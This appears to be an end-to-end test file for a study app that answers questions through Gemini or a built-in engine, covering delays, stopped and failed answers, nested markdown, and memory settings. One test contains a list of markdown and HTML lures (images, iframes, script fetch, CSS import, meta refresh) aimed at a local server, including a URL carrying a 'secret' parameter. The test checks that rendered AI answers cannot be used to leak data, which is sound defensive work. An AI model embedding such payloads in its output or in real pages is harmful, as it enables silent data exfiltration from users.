import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { geminiFaults, type GeminiServer } from '../support/providers/gemini-server';
import { test } from './support/gemini-answers';
import { expect } from './support/lectern';
import { putModelSettings } from './support/rest';
import { answers, ask, begin, goTo, openSampleBook } from './support/study';
import { text } from '../../src/renderer/messages/text';

test.use({ shelf: 'sample book' });

const asked = (gemini: GeminiServer): number =>
  gemini.requests.filter(({ path }) => path.includes('streamGenerateContent')).length;

test('an answer that has to wait says so, and can be stopped or given by the built-in engine', async ({
  lectern,
  gemini,
}) => {
  gemini.failAnswer(geminiFaults.busy(25));
  const page = await openSampleBook(lectern);
  await begin(page, 'What is a when-then plan?');
  const waiting = answers(page).last();
  await expect(waiting.getByRole('status')).toHaveText(text.chat.delayed.provider);
  await expect(waiting.getByRole('timer')).toHaveText(/^about (?:2[0-5]|1\d) s$/);
  await waiting.getByRole('button', { name: 'Answer with the built-in engine' }).click();
  await expect(answers(page).last().getByRole('heading', { name: 'From the book' })).toBeVisible();
  await expect(
    answers(page)
      .last()
      .getByRole('button', { name: /^page / })
      .first(),
  ).toBeVisible();
  expect(asked(gemini)).toBe(1);

  await ask(page, 'What is the quiet check?');
  await expect(answers(page).last()).toContainText('The quiet check is a pause of one breath.');
  await begin(page, 'And what is it for?');
  await expect(answers(page).last().getByRole('status')).toHaveText(text.chat.delayed.budget);
  await answers(page).last().getByRole('button', { name: 'Stop', exact: true }).click();
  await expect(answers(page).last()).toContainText(text.chat.stopped);
  expect(asked(gemini)).toBe(2);
});

test('an answer stopped half-way is kept; a failed one is reported and can be retried', async ({
  lectern,
  gemini,
}) => {
  const page = await openSampleBook(lectern);
  gemini.say('The quiet check is a pause of one breath. '.repeat(40));
  // The first third arrives, then nothing more.
  gemini.failAnswer({ hang: 1000 });
  await begin(page, 'What is the quiet check?');
  await expect(answers(page).last()).toContainText('a pause');
  await page.getByRole('button', { name: 'Stop', exact: true }).click();
  await expect(answers(page).last()).toContainText(text.chat.stopped);
  await expect(answers(page).last()).toContainText('a pause');

  gemini.failAnswer(geminiFaults.badKey);
  await begin(page, 'And what is it for?');
  const failed = answers(page).last().getByRole('alert');
  await expect(failed).toContainText('Gemini did not accept the key.');
  gemini.say('It is there to notice.');
  // The limit is four requests a minute, and all are used.
  await failed.getByRole('button', { name: 'Answer with the built-in engine' }).click();
  await expect(answers(page).last().getByRole('heading', { name: 'From the book' })).toBeVisible();
});

test('an endlessly nested answer is shown as plain text, and the conversation continues', async ({
  lectern,
  gemini,
}) => {
  const page = await openSampleBook(lectern);
  gemini.say(`${'- '.repeat(1000)}the bottom`);
  await ask(page, 'What is the quiet check?');
  await expect(answers(page).last()).toContainText('- - - the bottom');
  gemini.say('It is there to notice.');
  await ask(page, 'And what is it for?');
  await expect(answers(page).last()).toContainText('It is there to notice.');
  const again = await lectern.restart();
  await goTo(again, 'Study');
  await expect(answers(again).last()).toContainText('It is there to notice.');
  await expect(answers(again).filter({ hasText: 'the bottom' })).toHaveCount(1);
});

const listen = async (heard: string[]): Promise<Server> => {
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>outside</title>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
};

/** All ways in which Markdown or HTML could contact a server without a click. */
const lures = (to: string): string => `The secret is kept.

![a map](${to}/picture?told=secret) ![by name][pix] [![linked picture](${to}/in-link)](${to}/around)

[pix]: ${to}/by-name "title"
[p. 12]: ${to}/as-a-page

<img src="${to}/raw"><iframe src="${to}/frame"></iframe><link rel="prefetch" href="${to}/prefetch">
<svg><image href="${to}/svg"/></svg><script>fetch('${to}/script')</script><style>@import '${to}/style';</style>
<meta http-equiv="refresh" content="0;url=${to}/refresh"><video poster="${to}/poster" src="${to}/video"></video>

[read more](${to}/clicked) and ${to}/bare and [F7](${to}/as-a-memory) [p. 12][p. 12]
[basis: none]`;

test('an answer with pictures and links requests nothing; only a click on a link leads out', async ({
  lectern,
  gemini,
}) => {
  const heard: string[] = [];
  const outside = await listen(heard);
  const to = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const page = await openSampleBook(lectern);
  gemini.say(lures(to));
  await ask(page, 'What is the quiet check?');
  const answer = answers(page).last();
  await expect(answer).toContainText('The secret is kept.');
  await expect(answer.locator('img, iframe, svg image, video, script, style, meta, link')).toHaveCount(0);
  const link = answer.getByRole('link', { name: 'read more' });
  await link.hover();
  await link.focus();
  await expect(answer).toContainText(`read more (${new URL(to).host})`);

  // As a note, and after a restart, it requests nothing either.
  await answer.getByRole('button', { name: text.chat.makeNote }).click();
  await goTo(page, 'Notes');
  await page.getByRole('link', { name: /quiet check/ }).click();
  await expect(page.getByRole('region', { name: 'Preview' })).toContainText('The secret is kept.');
  const again = await lectern.restart();
  await goTo(again, 'Study');
  await expect(answers(again).last()).toContainText('The secret is kept.');
  expect(heard).toEqual([]);
  expect(await lectern.followed()).toEqual([]);

  await answers(again).last().getByRole('link', { name: 'read more' }).click();
  await expect.poll(() => lectern.followed()).toContain(`${to}/clicked`);
  expect(new Set(await lectern.followed())).toEqual(new Set([`${to}/clicked`]));
  expect(again.url()).not.toContain(to);
  await expect.poll(() => heard[0]).toBe('/clicked');
  expect(heard.filter((path) => path !== '/clicked' && path !== '/favicon.ico')).toEqual([]);
  outside.closeAllConnections();
  outside.close();
});

test.describe('a memory by a model that replies with prose instead of JSON', () => {
  test.use({
    // oxlint-disable-next-line no-empty-pattern
    prepare: async ({}, use) =>
      use(async (front) => {
        const builtin = { provider: 'builtin', model: null } as const;
        const flash = { provider: 'gemini', model: 'gemini-flash-latest' } as const;
        await putModelSettings(front, {
          tasks: { answers: builtin, summaries: builtin, memory: flash, plans: builtin },
        });
      }),
  });

  test('is left to the built-in engine, and the settings say so', async ({ lectern, gemini }) => {
    const page = await openSampleBook(lectern);
    await ask(page, 'I am allergic to penicillin.');
    await expect.poll(() => gemini.questions.filter(({ json }) => json).length).toBe(2);
    await goTo(page, 'Settings');
    await page.getByRole('link', { name: 'Models and keys' }).click();
    const row = page.getByRole('row').filter({ hasText: text.models.tasks.names.memory.about });
    await expect(row).toContainText(text.models.tasks.withoutJson);
    await expect(page.getByText(text.models.tasks.withoutJson)).toHaveCount(1);
    await goTo(page, 'Memory');
    await expect(page.getByText(/allergic to penicillin/).first()).toBeVisible();
    expect(gemini.questions.filter(({ json }) => json)).toHaveLength(2);
  });
});
